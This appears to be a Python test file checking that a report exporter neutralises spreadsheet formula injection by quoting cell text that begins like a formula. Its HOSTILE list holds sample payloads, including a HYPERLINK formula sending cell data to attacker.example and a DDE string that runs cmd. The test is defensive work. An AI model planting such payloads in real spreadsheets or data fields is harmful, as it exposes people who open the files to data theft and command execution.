"""Spreadsheet formula injection (security finding 5): text that comes from the data —
customer names, CSM names, ids, filter descriptions — never becomes a live formula in
an exported workbook."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook

from ecc.reports.excel import text_value, write_workbook

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_starts_like_a_formula_gets_a_leading_quote() -> None:
    for text in HOSTILE:
        assert text_value(text) == "'" + text
    for text in ("Acme Corp", "O'Brien & Sons", "2026 plan", "", "a=b"):
        assert text_value(text) == text


def test_no_cell_of_an_exported_workbook_is_a_formula(tmp_path: Path) -> None:
    rows = [
        {"customer_id": f"c-{i}", "customer_name": name, "arr": 1000.0 * (i + 1)}
        for i, name in enumerate(HOSTILE)
    ]
    data = {"risk": {"at_risk_arr": 7000.0, "note": "=1+1", "top": rows}}
    about = [("Filters", "=CSM " + HOSTILE[0]), ("Period", "2026-01-01 to 2026-03-31")]
    path = write_workbook(tmp_path / "pack.xlsx", about, data, ["risk"])

    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")]
    # (XML reads a carriage return back as a line feed)
    assert {("'" + n).replace("\r", "\n") for n in HOSTILE} <= {
        n.replace("\r", "\n") for n in names
    }
    assert "'=1+1" in names and "'=CSM " + HOSTILE[0] in names
    # numbers stay numbers
    assert 7000.0 in [c.value for c in cells]
